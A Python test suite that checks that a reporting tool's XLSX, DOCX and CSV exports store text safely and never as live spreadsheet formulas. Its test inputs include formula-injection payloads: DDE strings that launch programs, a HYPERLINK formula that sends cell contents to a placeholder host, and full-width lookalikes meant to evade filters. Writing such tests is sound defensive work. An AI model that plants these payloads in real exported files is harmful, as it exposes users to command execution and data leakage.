import csv
import io
import zipfile
from copy import copy
from datetime import UTC, date, datetime

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Alignment, Border, Font, Side

from connectors.delimited_text import write_delimited
from connectors.forms.form import FilingForm
from connectors.forms.xlsx import read_xlsx_forms, xlsx_forms
from connectors.publish.documents import documents_of
from connectors.publish.reading import read_bulletin
from connectors.sheets.check_sheets.finding import SheetContext
from connectors.sheets.check_sheets.reader import read_checks
from connectors.sheets.check_sheets.sheet import SheetAccount, SheetRule
from connectors.sheets.check_sheets.writer import check_sheet
from connectors.sheets.escapes import typed
from connectors.sheets.kinds import KINDS
from connectors.sheets.national import read_national, write_national
from connectors.sheets.templates import template
from connectors.text_cells import (
    MOST_CHARACTERS,
    CellStyle,
    write_day,
    write_moment,
    write_row,
    write_text,
)
from events.instants import EPOCH
from events.national import NationalEntry
from events.printable import printable
from tests.connectors.publish import bulletins
from tests.projections.bulletin.city import silent

LIVE = (
    *(
        "=1+2",
        "=cmd|'/c notepad'!A1",
        '=HYPERLINK("https://example.invalid/?"&B2,"领取")',
        "=IMPORTXML(A1,A2)",
    ),
    *(
        "+2+3",
        "-5+cmd|'/c x'!A0",
        "@SUM(A1:A9)",
        "＝2*3",
        "＋1",
        "－1",
        "＠甲",
        "=甲发布",
        "|calc",
        "%甲",
        "＝＝甲",
    ),
)
QUIET = ("某市发布", "A=1", "甲-乙", "1+1", "007", "1E5", "2021-06-16", "TRUE", "#N/A", "<b>甲</b>", "{{甲}}")


def pages_of(document: bytes) -> list:
    """Return the cells of every page, after looking that no page holds a formula in any form."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            assert not name.startswith("xl/worksheets") or b"<f" not in part.replace(b"<formula", b""), name
            assert "externalLink" not in name
    return [
        cell
        for page in load_workbook(io.BytesIO(document)).worksheets
        for row in page.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def require_texts(document: bytes, *texts: str) -> None:
    """Texts stand as they are, as texts, and stay so when somebody edits their cells."""
    cells = pages_of(document)
    assert set(texts) <= {cell.value for cell in cells}
    for cell in cells:
        assert cell.hyperlink is None
        if cell.value in LIVE:
            assert (cell.data_type, cell.quotePrefix) == ("s", True)


@pytest.mark.parametrize("text", LIVE)
def test_what_a_spreadsheet_would_run_is_marked_as_text(text):
    """In any width, and behind what cannot be seen: a formula, a link, an exchange with a program."""
    page = Workbook().worksheets[0]
    write_row(page, 1, (text, f"\t{text}", f"\n{text}", f"\u200b {text}"))
    assert {("s", True)} == {(cell.data_type, cell.quotePrefix) for cell in page[1]}


@pytest.mark.parametrize("text", QUIET)
def test_other_texts_are_texts_without_a_mark(text):
    """What looks like a number, a day or a word of the program stays as it was typed."""
    page = Workbook().worksheets[0]
    write_text(page.cell(1, 1), text)
    cell = page.cell(1, 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)


def test_a_text_that_looks_like_an_escaped_character_is_escaped():
    """ECMA-376 part 1, 22.9.2.19: _x0041_ would be shown as A."""
    page = Workbook().worksheets[0]
    write_row(page, 1, ("甲_x0041_", "", "a" * (MOST_CHARACTERS + 1)))
    assert page.cell(1, 1).value == "甲_x005F_x0041_"
    assert page.cell(1, 2).value is None
    assert page.cell(1, 3).value.endswith("a…")
    assert len(page.cell(1, 3).value) == MOST_CHARACTERS


def test_a_cell_inside_a_merged_one_is_refused():
    """The library would drop the text without a word."""
    page = Workbook().worksheets[0]
    page.merge_cells("A1:B1")
    with pytest.raises(TypeError, match="B1"):
        write_text(page.cell(1, 2), "甲")


@pytest.mark.parametrize("text", [*LIVE, *QUIET])
def test_the_national_sheet_gives_back_what_went_into_it(tmp_path, text):
    """Name, owner and all else are texts, and our own reader reads the same."""
    path = tmp_path / "national.xlsx"
    entry = NationalEntry(name=text, platform="抖音", owner=text, supervisor=text, tier=text, area=text)
    write_national(path, [entry])
    require_texts(path.read_bytes(), text)
    (read,) = read_national(path)
    assert (entry.name, entry.owner, entry.supervisor) == (read.name, read.owner, read.supervisor)
    assert (entry.tier, entry.area) == (read.tier, read.area)


@pytest.mark.parametrize("text", LIVE)
def test_filing_forms_give_back_what_went_into_them(tmp_path, text):
    """The title of a page holds the owner, and the page is named by it."""
    form = FilingForm(
        kind="opened",
        name=text,
        platform="抖音",
        owner=text,
        description=text,
        section=text,
        reason=text,
        effective_on=date(2023, 1, 1),
    )
    path = tmp_path / "forms.xlsx"
    path.write_bytes(xlsx_forms([form]))
    require_texts(path.read_bytes(), text)
    (read,) = read_xlsx_forms(path)
    assert form == read


@pytest.mark.parametrize("text", LIVE)
def test_a_check_sheet_gives_back_what_went_into_it(tmp_path, text):
    """Accounts, owners and the names of rules."""
    account = SheetAccount("douyin:1", text, "抖音", text)
    path = tmp_path / "sheet.xlsx"
    path.write_bytes(check_sheet(text, "m", [account], [SheetRule("r", text, "扣分", text)]))
    require_texts(path.read_bytes(), text)
    context = SheetContext("m", {"douyin:1": text}, lambda *_: ("r", "yellow"), str, EPOCH, EPOCH)
    assert read_checks(path, context) == []


def test_a_bulletin_gives_back_what_went_into_it():
    """Annex, figures, and the sheets inside the charts of the DOCX."""
    content = bulletins.content(
        *(silent(n, 20, name=text, owner=text) for n, text in enumerate(LIVE, start=1))
    )
    documents = documents_of(content, bulletins.templates())
    require_texts(documents["xlsx"], *LIVE)
    annex = read_bulletin("x.xlsx", documents["xlsx"]).annex
    assert set(LIVE) <= {text for row in annex for text in (row.name, row.unit)}
    with zipfile.ZipFile(io.BytesIO(documents["docx"])) as archive:
        books = [archive.read(name) for name in archive.namelist() if name.endswith(".xlsx")]
    assert books
    for book in books:
        pages_of(book)


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_templates_hold_texts(kind):
    """Explanations may begin with any sign."""
    pages_of(template(kind))


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "＝1", "%0A=1", "普通文字", "", "'0012"]
)
def test_a_text_of_a_delimited_file_is_no_formula_and_comes_back(tmp_path, text):
    """The mark before it is what readers here take off; numbers, days and moments are no texts."""
    path = tmp_path / "list.csv"
    at = datetime(2025, 6, 30, 1, 0, 59, tzinfo=UTC)
    write_delimited(path, ("文字", "数", "日", "时", "无"), [(text, -3, date(2025, 6, 30), at, None)])
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    (row,) = list(csv.reader(path.read_text("utf-8-sig").splitlines()))[1:]
    assert row[1:] == ["-3", "2025-06-30", "2025-06-30 09:00", ""]
    assert not row[0].startswith(("=", "+", "-", "@", "＝", "%"))
    if not text.startswith("'"):
        assert typed(row[0]) == printable(text)


def test_a_moment_of_a_workbook_is_a_date_of_chinese_time():
    """To the minute, without a zone, in a format that every spreadsheet shows alike; a day is a day."""
    page = Workbook().worksheets[0]
    write_moment(page["A1"], datetime(2025, 6, 30, 1, 0, 59, tzinfo=UTC))
    write_day(page["A2"], date(2025, 6, 30))
    assert (page["A1"].value.isoformat(), page["A1"].number_format) == (
        "2025-06-30T09:00:00",
        "yyyy-mm-dd hh:mm",
    )
    assert (page["A2"].value, page["A2"].number_format) == (date(2025, 6, 30), "yyyy-mm-dd")


def test_a_style_of_many_cells_is_what_each_would_have_been_given():
    """In each workbook the numbers are its own, and what a cell has beside its style stays."""
    look = {
        "font": Font(bold=True),
        "border": Border(left=Side("thin")),
        "alignment": Alignment(wrap_text=True),
    }
    style = CellStyle(**look)
    for before in ((), ("0.00",)):
        page = Workbook().active
        for number_format in before:
            page["Z1"].number_format, page["Z1"].font = number_format, Font(italic=True)
        write_text(page["A2"], "=1+1")
        write_day(page["A3"], date(2026, 9, 18))
        for row in range(1, 5):
            page.cell(row, 2)._style = copy(page.cell(row, 1)._style)
            style.put_on(page.cell(row, 1))
            for name, value in look.items():
                setattr(page.cell(row, 2), name, value)
            assert page.cell(row, 1)._style == page.cell(row, 2)._style
        assert (True, True) == (page["A2"].quotePrefix, page["A4"].font.bold)
        assert "yyyy-mm-dd" == page["A3"].number_format
